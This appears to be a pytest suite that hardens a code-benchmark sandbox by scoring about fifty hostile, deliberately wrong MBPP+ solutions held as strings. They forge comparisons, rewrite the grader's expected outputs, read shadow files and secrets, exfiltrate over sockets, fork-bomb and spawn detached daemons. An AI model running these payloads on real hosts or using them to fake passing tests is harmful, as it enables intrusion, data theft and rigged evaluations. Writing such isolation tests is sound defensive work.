"""Hostile, wrong MBPP+ solutions: none may pass, and none may leave a trace on the host.

Every case is wrong by construction; most return the right answer *only if their attack worked* (a forged
comparison, a leaked expected output or canonical solution, a file that survived into the next check), so
a pass would be the proof of a hole. All cases are scored in one call, as the workflow scores many samples
at once, but each sample's base and plus checks are judged on their own, and the assertions are per case.
Afterwards the host is inspected: canary files (in a world-writable dir), a TCP listener on 127.0.0.1 and
an abstract unix socket, the host's temp dirs and the process table (sandbox uids are >= 2**30), also
after the delay at which the detached daemons would act.
"""

from __future__ import annotations

import gzip
import json
import os
import secrets
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest

pytest.importorskip("evalplus")

from evaluation.benchmarks import DEFAULT_DATA_DIR
from evaluation.code.score import SandboxConfig, SandboxUnavailable, evaluate_mbpp_plus

DATASET = DEFAULT_DATA_DIR / "mbpp_plus" / "MbppPlus.jsonl.gz"
RIGHT = "monthnum2 in (1, 3, 5, 7, 8, 10, 12)"  # Mbpp/455, check_monthnumb_number
SANDBOX_UIDS = 0x40000000  # evaluation.code.sandbox.sandbox_uid: [2**30, 2**31)
DAEMON_DELAY_S = 3


def _fn(ok: str, module_code: str = "") -> str:
    """Module-level attack code, then an entry point that is right only if ``ok`` holds."""
    return f"{module_code}\n\ndef check_monthnumb_number(monthnum2):\n    return bool({ok}) and ({RIGHT})\n"


def _wrong(module_code: str, ret: str = "not (" + RIGHT + ")", body: str = "") -> str:
    """Module-level code, then an entry point that runs ``body`` and returns a wrong value."""
    return f"{module_code}\n\ndef check_monthnumb_number(monthnum2):\n{body or '    pass'}\n    return {ret}\n"


LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
DAEMON = LIBC + """
import os, time, socket
def _daemon(act):
    if libc.fork() == 0:
        libc.setsid()
        if libc.fork() == 0:
            time.sleep({delay})
            try:
                act()
            finally:
                os._exit(0)
        os._exit(0)
"""


def _cases(h: dict) -> dict[str, tuple[str, str]]:
    """name -> (task_id, program). ``h``: host paths, listener ports and the secret token."""
    canary, cdir, marker, port, tok = h["canary"], h["canary_dir"], h["marker"], h["port"], h["token"]
    sec, pub, abstract = h["secret"], h["public_secret"], h["abstract"]
    daemon = DAEMON.replace("{delay}", str(DAEMON_DELAY_S))
    hit_host = (f"lambda: [open({str(cdir / 'daemon.txt')!r}, 'w').write('x'), "
                f"socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'daemon')]")
    c: dict[str, tuple[str, str]] = {}
    t455 = "Mbpp/455"
    # ----------------------------------------------------------------------- fake passes
    c["eq_always_true"] = (t455, _wrong("class A:\n    def __eq__(s, o): return True\n    __hash__ = None",
                                        "A()"))
    c["eq_notimplemented_ne_false"] = (t455, _wrong(
        "class A:\n    def __eq__(s, o): return NotImplemented\n    def __ne__(s, o): return False", "A()"))
    c["int_subclass_eq"] = (t455, _wrong("class I(int):\n    def __eq__(s, o): return True\n    __hash__ = int.__hash__",
                                         "I(7)"))
    c["str_subclass_eq"] = (t455, _wrong("class S(str):\n    def __eq__(s, o): return True", "S('x')"))
    c["list_subclass_eq"] = ("Mbpp/4", ("class L(list):\n    def __eq__(s, o): return True\n"
                                        "def heap_queue_largest(nums, n):\n    return L([0])\n"))
    c["patched_isclose_allclose_eq"] = ("Mbpp/82", ("import math, operator, numpy\n"
                                                    "math.isclose = lambda *a, **k: True\n"
                                                    "numpy.allclose = lambda *a, **k: True\n"
                                                    "numpy.isclose = lambda *a, **k: True\n"
                                                    "operator.eq = lambda a, b: True\n"
                                                    "def volume_sphere(r):\n    return 1.0\n"))
    c["patched_builtins"] = (t455, _wrong("import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.round = lambda *a: 0\n"
                                          "builtins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0\n"
                                          "builtins.type = lambda *a: bool"))
    c["frame_walk_rewrite_expected"] = (t455, _wrong("import sys", "not (" + RIGHT + ")", """
    f = sys._getframe()
    while f is not None:
        for k in ('exp', 'expected', 'out', 'details', 'stat'):
            if k in f.f_locals:
                v = f.f_locals[k]
                try:
                    v[:] = [not (monthnum2 in (1, 3, 5, 7, 8, 10, 12))] * len(v)
                except Exception:
                    pass
        f = f.f_back"""))
    c["gc_walk_rewrite_lists"] = (t455, _wrong("import gc", "False", """
    for o in gc.get_objects():
        if type(o) is list and o and all(type(x) is bool for x in o):
            o[:] = [False] * len(o)"""))
    c["patch_encoder_module"] = (t455, _wrong(
        "import sys\nfor m in list(sys.modules.values()):\n    if getattr(m, 'encode_value', None):\n"
        "        m.encode_value = lambda x, d=0: True\n    if getattr(m, 'check_outputs', None):\n"
        "        m.check_outputs = lambda *a: True", "7"))
    c["os_exit_at_import"] = (t455, _wrong("import os\nos._exit(0)"))
    c["os_exit_in_call"] = (t455, _wrong("import os", "True", "    os._exit(0)"))
    c["system_exit_at_import"] = (t455, _wrong("raise SystemExit(0)"))
    c["print_fake_results"] = (t455, _wrong(
        "import os, sys, json\nfake = json.dumps({'status': 'exited', 'eval': 'pass', 'base_status': 'pass'})\n"
        "for fd in (1, 2):\n    os.write(fd, (fake + '\\n').encode())\nprint('pass', file=sys.__stdout__)"))
    c["forge_frames_on_every_fd"] = (t455, _wrong(
        "import os, json\n"
        "frames = [[-1]] + [[i, 0, True] for i in range(20)] + [[-2]]\n"
        "blob = b''.join(len(b).to_bytes(4, 'big') + b for b in (json.dumps(f).encode() for f in frames))\n"
        "msg = b'{\"status\": \"exited\"}\\n' + blob\n"
        "for fd in range(0, 1024):\n    for data in (blob, len(msg).to_bytes(8, 'big') + msg):\n"
        "        try:\n            os.write(fd, data)\n        except OSError:\n            pass\n"
        "for p in ('/proc/1/fd/1', '/proc/1/fd/0', '/proc/self/fd/1'):\n    try:\n"
        "        fh = open(p, 'wb'); fh.write(blob); fh.close()\n    except Exception:\n        pass"))
    c["ptrace_and_mem_of_harness"] = (t455, _fn("LEAK", LIBC + """
LEAK = False
libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to the harness
for pid in ('1', str(__import__('os').getppid())):
    try:
        with __builtins__['__import__']('io').open(f'/proc/{pid}/mem', 'rb') as fh:
            LEAK = True
    except Exception:
        pass
"""))
    c["kill_harness_then_lie"] = (t455, _wrong(LIBC + "import os\nlibc.kill(1, 9)\nlibc.kill(os.getppid(), 9)\n"
                                               "libc.kill(-1, 15)", "not (" + RIGHT + ")"))
    c["lazy_generator"] = (t455, _wrong("", "(x for x in [True])"))
    c["numpy_array"] = (t455, _wrong("import numpy", "numpy.array([True, False])"))
    # ----------------------------------------------------------------------- environment snooping
    c["find_dataset_canonical"] = (t455, _fn("FOUND", """
import os, gzip, json
FOUND = False
for top in ('/', '/work', '/root', '/tmp', '/data', os.path.expanduser('~')):
    for root, dirs, files in os.walk(top):
        if root.startswith(('/proc', '/sys', '/usr')):
            dirs[:] = []
            continue
        if any('MbppPlus' in f or 'HumanEvalPlus' in f for f in files):
            FOUND = True
"""))
    c["find_expected_cache"] = (t455, _fn("FOUND", """
import os
FOUND = any(f.endswith('.pkl') and 'Mbpp' in f for r, d, fs in os.walk('/') if not r.startswith(('/proc', '/usr'))
            for f in fs)
"""))
    c["environ_and_proc_snoop"] = (t455, _fn("LEAK", f"""
import os
LEAK = {tok!r} in repr(dict(os.environ))
for d in os.listdir('/proc'):
    for part in ('environ', 'cmdline'):
        try:
            with __builtins__['__import__']('io').open(f'/proc/{{d}}/{{part}}', 'rb') as fh:
                blob = fh.read()
        except Exception:
            continue
        LEAK = LEAK or {tok!r}.encode() in blob or b'pytest' in blob
"""))
    c["read_0600_secret"] = (t455, _fn("LEAK", f"""
import io
try:
    LEAK = {tok!r} in io.open({str(sec)!r}).read()
except Exception:
    LEAK = False
"""))
    c["read_world_readable_secret"] = (t455, _fn("LEAK", f"""
import io
try:
    LEAK = {tok!r} in io.open({str(pub)!r}).read()
except Exception:
    LEAK = False
"""))
    c["read_shadow_and_host_ns"] = (t455, _fn("LEAK", """
import io, os
LEAK = False
for p in ('/etc/shadow', '/proc/1/root/etc/shadow', '/proc/1/environ'):
    try:
        LEAK = LEAK or bool(io.open(p).read())
    except Exception:
        pass
LEAK = LEAK or len([d for d in os.listdir('/proc') if d.isdigit()]) > 10
"""))
    # ----------------------------------------------------------------------- filesystem
    c["delete_and_truncate_canary"] = (t455, _fn("GONE", f"""
import os, ctypes
P, D = {str(canary)!r}, {str(cdir)!r}
libc = ctypes.CDLL(None)
GONE = False
for attempt in (lambda: libc.unlink(P.encode()) == 0, lambda: libc.rmdir(D.encode()) == 0,
                lambda: os.close(os.open(P, os.O_WRONLY | os.O_TRUNC)) is None,
                lambda: libc.truncate(P.encode(), 0) == 0, lambda: libc.rename(P.encode(), (P + '.x').encode()) == 0):
    try:
        GONE = attempt() or GONE
    except BaseException:
        pass
"""))
    c["write_host_temp_dirs"] = (t455, _fn("WROTE", f"""
import os
WROTE = False
for d in ('/tmp', '/dev/shm', '/var/tmp', {str(cdir)!r}, '/work', '/'):
    try:
        fd = os.open(os.path.join(d, {marker!r} + '-file'), os.O_CREAT | os.O_WRONLY, 0o666)
        os.write(fd, b'x')
        os.close(fd)
        WROTE = WROTE or d == {str(cdir)!r}
    except OSError:
        pass
"""))
    c["poison_checkout_module"] = (t455, _fn("WROTE", """
import os, evaluation.code.compare as cc
WROTE = False
try:
    fd = os.open(cc.__file__, os.O_WRONLY | os.O_APPEND)
    os.write(fd, b'\\n# poisoned\\n')
    WROTE = True
except OSError:
    pass
"""))
    c["persist_into_next_check"] = (t455, _fn("SEEN", f"""
import os
SEEN = False
for d in ('/tmp', '/sandbox', '/dev/shm', '/var/tmp', os.environ.get('TMPDIR', '/tmp')):
    p = os.path.join(d, {marker!r} + '-persist')
    SEEN = SEEN or os.path.exists(p)
    try:
        os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o000))
    except OSError:
        pass
"""))
    c["fill_disk"] = (t455, _wrong("""
import os
for d in ('/sandbox', '/tmp', '/dev/shm', '/var/tmp'):
    try:
        fd = os.open(os.path.join(d, 'big'), os.O_CREAT | os.O_WRONLY, 0o600)
        for _ in range(1024):
            os.write(fd, b'\\0' * (1 << 20))
    except OSError:
        pass
"""))
    c["symlink_to_host"] = (t455, _fn("LEAK", f"""
import os, io
LEAK = False
try:
    os.symlink({str(pub)!r}, '/sandbox/l')
    LEAK = {tok!r} in io.open('/sandbox/l').read()
except Exception:
    pass
"""))
    # ----------------------------------------------------------------------- network
    c["tcp_to_host_listener"] = (t455, _fn("CONNECTED", f"""
import socket
CONNECTED = False
for addr in (('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)):
    try:
        socket.create_connection(addr, timeout=2).sendall(b'exfiltrate')
        CONNECTED = True
    except BaseException:
        pass
"""))
    c["udp_and_abstract_unix"] = (t455, _fn("SENT", f"""
import socket
SENT = False
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.connect({abstract!r})
    u.sendall(b'exfiltrate')
    SENT = True
except BaseException:
    pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))
except BaseException:
    pass
"""))
    c["listen_for_host"] = (t455, _fn("False", """
import socket
s = socket.socket()
try:
    s.bind(('0.0.0.0', 0))
    s.listen(1)
except BaseException:
    pass
"""))
    # ----------------------------------------------------------------------- resource abuse
    c["fork_bomb"] = (t455, _fn("N > 40", LIBC + """
N = 0
for _ in range(400):
    pid = libc.fork()
    if pid == 0:
        while True:
            libc.fork()
    N += pid > 0
"""))
    c["thread_bomb"] = (t455, _fn("N > 200", """
import threading, time
N = 0
for _ in range(2000):
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        N += 1
    except BaseException:
        break
"""))
    c["memory_bomb_incremental"] = (t455, _fn("len(HOG) > 40", "HOG = []\nwhile True:\n    HOG.append(bytearray(64 << 20))"))
    c["memory_bomb_single"] = (t455, _fn("len(HOG) > 0", "HOG = bytearray(64 * 1024 ** 3)"))
    c["memory_across_processes"] = (t455, _fn("False", LIBC + """
import time
for _ in range(12):
    if libc.fork() == 0:
        try:
            b = bytearray(1 << 30)
            for i in range(0, len(b), 4096):
                b[i] = 1
        except BaseException:
            pass
        time.sleep(30)
time.sleep(20)
"""))
    c["huge_return_value"] = (t455, _wrong("", "[[1] * (1 << 20)] * 4000"))
    c["stdout_flood"] = (t455, _wrong("import os\nfor _ in range(256):\n    os.write(1, b'x' * (1 << 20))\n"
                                      "    os.write(2, b'y' * (1 << 20))"))
    c["cpu_threads_no_alarm"] = (t455, _wrong("import signal, threading\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                                              "def spin():\n    while True:\n        pass\n"
                                              "for _ in range(8):\n    threading.Thread(target=spin, daemon=True).start()",
                                              "True", "    spin()"))
    c["deep_recursion_output"] = (t455, _wrong("", "x", "    x = []\n    for _ in range(100000):\n        x = [x]"))
    # ----------------------------------------------------------------------- timing
    c["sleep_under_the_limit"] = (t455, _wrong("import time", "not (" + RIGHT + ")", "    time.sleep(0.9)"))
    c["ignore_sigterm_loop"] = (t455, _wrong("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)", "True",
                                             "    while True:\n        pass"))
    c["disable_alarm_in_call"] = (t455, _wrong("import signal", "True",
                                               "    signal.setitimer(signal.ITIMER_REAL, 0)\n"
                                               "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n    while True:\n        pass"))
    c["block_all_signals"] = (t455, _wrong("import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))",
                                           "True", "    while True:\n        pass"))
    c["atexit_hang"] = (t455, _wrong("import atexit, time\natexit.register(time.sleep, 1000)"))
    c["detached_daemon_acts_later"] = (t455, _wrong(daemon + f"_daemon({hit_host})"))
    c["daemon_in_call_new_session"] = (t455, _wrong(daemon, "not (" + RIGHT + ")", f"    _daemon({hit_host})"))
    c["subreaper_daemon"] = (t455, _wrong(daemon + f"libc.prctl(36, 1, 0, 0, 0)\n_daemon({hit_host})"))
    return c


def _listener() -> tuple[socket.socket, socket.socket, list[bytes], threading.Event, str]:
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    abstract = "\0creditbench-hostile-" + secrets.token_hex(6)
    uds = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    uds.bind(abstract)
    uds.listen(16)
    hits: list[bytes] = []
    stop = threading.Event()

    def serve(s: socket.socket) -> None:
        s.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = s.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    hits.append(conn.recv(100))
                except OSError:
                    hits.append(b"")

    for s in (srv, uds):
        threading.Thread(target=serve, args=(s,), daemon=True).start()
    return srv, uds, hits, stop, abstract


def _sandbox_processes() -> list[str]:
    out = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True, check=True).stdout
    return [line for line in out.splitlines() if line.split() and int(line.split()[0]) >= SANDBOX_UIDS]


def _host_temp_traces(marker: str) -> list[str]:
    found = []
    for d in ("/tmp", "/dev/shm", "/var/tmp"):
        for n in os.listdir(d):
            p = os.path.join(d, n)
            try:
                if marker in n or os.lstat(p).st_uid >= SANDBOX_UIDS:
                    found.append(p)
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory):
    d = Path(tempfile.mkdtemp(prefix="creditbench-host-"))
    os.chmod(d, 0o755)
    cdir = d / "canary"
    cdir.mkdir()
    os.chmod(cdir, 0o777)  # world-writable: only a read-only view of the host protects it
    canary = cdir / "keep.txt"
    canary.write_text("keep me\n")
    os.chmod(canary, 0o666)
    token = secrets.token_hex(16)
    (d / "secret.txt").write_text(token)
    os.chmod(d / "secret.txt", 0o600)
    (d / "public.txt").write_text(token)
    os.chmod(d / "public.txt", 0o644)
    srv, uds, hits, stop, abstract = _listener()
    marker = "creditbench-hostile-" + secrets.token_hex(4)
    os.environ["CREDITBENCH_HOSTILE_TOKEN"] = token  # the scorer's environment must not reach the sandbox
    host = {"canary": canary, "canary_dir": cdir, "secret": d / "secret.txt", "public_secret": d / "public.txt",
            "port": srv.getsockname()[1], "abstract": abstract, "token": token, "marker": marker}
    cases = _cases(host)
    with gzip.open(DATASET, "rt") as fh:
        rows = {r["task_id"]: r for r in map(json.loads, fh)}
    samples = [{"task_id": t, "solution": code} for t, code in cases.values()]
    controls = [{"task_id": t, "solution": rows[t]["prompt"] + rows[t]["canonical_solution"]}
                for t in ("Mbpp/455", "Mbpp/4", "Mbpp/82")]
    cache = tmp_path_factory.mktemp("gt")
    t0 = time.monotonic()
    try:
        res = evaluate_mbpp_plus(samples + controls, dataset_path=DATASET, cache_dir=cache,
                                 config=SandboxConfig(parallel=2, run_timeout_s=900))
    except SandboxUnavailable as exc:
        pytest.skip(str(exc))
    finally:
        os.environ.pop("CREDITBENCH_HOSTILE_TOKEN", None)
    wall = time.monotonic() - t0
    procs_at_return = _sandbox_processes()
    time.sleep(DAEMON_DELAY_S + 2)  # a surviving daemon would act now
    yield {"names": list(cases), "res": res, "wall": wall, "host": host, "hits": hits, "cache": cache,
           "procs_at_return": procs_at_return, "procs_later": _sandbox_processes(),
           "temp_traces": _host_temp_traces(marker)}
    stop.set()
    srv.close()
    uds.close()
    shutil.rmtree(d)


def test_at_least_40_cases() -> None:
    assert len(NAMES) >= 40 and len(set(NAMES)) == len(NAMES)


_DUMMY = {"canary": Path("/c/k"), "canary_dir": Path("/c"), "marker": "m", "port": 1, "token": "t",
          "secret": Path("/s"), "public_secret": Path("/p"), "abstract": "\0a"}
NAMES = list(_cases(_DUMMY))


@pytest.mark.parametrize("name", NAMES)
def test_hostile_case_fails_both_checks(hostile_run, name: str) -> None:
    r = hostile_run["res"].samples[hostile_run["names"].index(name)]
    assert r.base_status != "pass" and r.plus_status != "pass", (name, r)


def test_controls_pass_in_the_same_batch(hostile_run) -> None:
    """Canonical solutions scored beside the hostile ones still pass: no case spoiled another's check."""
    res, n = hostile_run["res"], len(hostile_run["names"])
    assert [(s.base_status, s.plus_status) for s in res.samples[n:]] == [("pass", "pass")] * 3
    assert hostile_run["wall"] < 800, hostile_run["wall"]  # returned, did not hang


def test_no_side_effects_on_the_host(hostile_run) -> None:
    host = hostile_run["host"]
    assert host["canary"].read_text() == "keep me\n"
    assert sorted(p.name for p in host["canary_dir"].iterdir()) == ["keep.txt"]
    assert hostile_run["hits"] == []  # neither the TCP listener nor the abstract socket was reached
    assert hostile_run["temp_traces"] == []
    assert hostile_run["procs_at_return"] == [] and hostile_run["procs_later"] == []
    assert not list(hostile_run["cache"].rglob("compute-*"))  # the scorer's own temp dirs are gone


def test_the_run_records_its_limits(hostile_run) -> None:
    res = hostile_run["res"]
    assert res.limits in ("cgroup2", "rlimits+rss-watch") and "rootfs" in res.isolation
